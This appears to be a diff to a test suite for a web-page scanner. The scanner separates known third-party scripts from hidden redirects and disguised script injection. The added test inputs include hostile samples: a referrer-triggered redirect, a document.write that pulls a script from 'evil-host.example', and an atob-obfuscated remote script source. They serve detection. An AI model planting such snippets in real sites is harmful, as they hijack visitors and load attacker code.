@@ -25,6 +25,16 @@ def told(*scripts: Script, frames: tuple[str, ...] = ()):
         "https://res.wx.qq.com/open/js/jweixin.js",
         "https://gov.govwza.cn/dist/aria.js",
         "http://tongji.haishan.example/t.js",
+        "https://lib.baomitu.com/jquery.js",
+        "https://lf26-cdn-tos.bytecdntp.com/jquery.js",
+        "https://widget.qweather.net/a.js",
+        "https://tianqi.2345.com/plugin/widget/index.htm",
+        "https://static.geetest.com/v4/gt4.js",
+        "https://static.sensorsdata.cn/sdk.js",
+        "https://player.mgtv.com/a.html",
+        "https://www.720yun.com/t/a",
+        "https://www.wjx.cn/vm/a.aspx",
+        "https://captcha.haishan.example/a.js",
     ],
 )
 def test_usual_components_are_no_strangers(address):
@@ -39,6 +49,9 @@ def test_usual_components_are_no_strangers(address):
         "meta refresh: http://www.gov.cn/",
         "function go(){ location.href='http://search.vendor.example/?q=1' }",
         "s = unescape('%u4E91%u5C71') ⇒ 云山",
+        'document.write(String.fromCharCode(60,97)) ⇒ <a href="mailto:office@yunshan.example">office</a>',
+        "document.write(String.fromCharCode(60,97)) ⇒ <a href='/search/'>检索</a>",
+        "d.src=atob('aHR0cDo') ⇒ http://www.yunshan.example/a.js",
         "location.href='https://zwfw.zj.gov.cn/'",
     ],
 )
@@ -60,6 +73,8 @@ def test_a_page_without_strangers_is_fine():
         "function f(){ if(document.referrer.indexOf('baidu')>0) location.href='http://www.evil-host.example/' }",
         "document.write('<script src=http://evil-host.example/a.js></script>')",
         "eval(unescape('%66')) ⇒ document.write(x)",
+        "document.write(String.fromCharCode(60,97)) ⇒ <a href='//evil-host.example/'>x</a>",
+        "d.src=atob('aHR0cDo') ⇒ http://evil-host.example/go.js",
     ],
 )
 def test_jumps_and_disguised_writing_are_found(code):
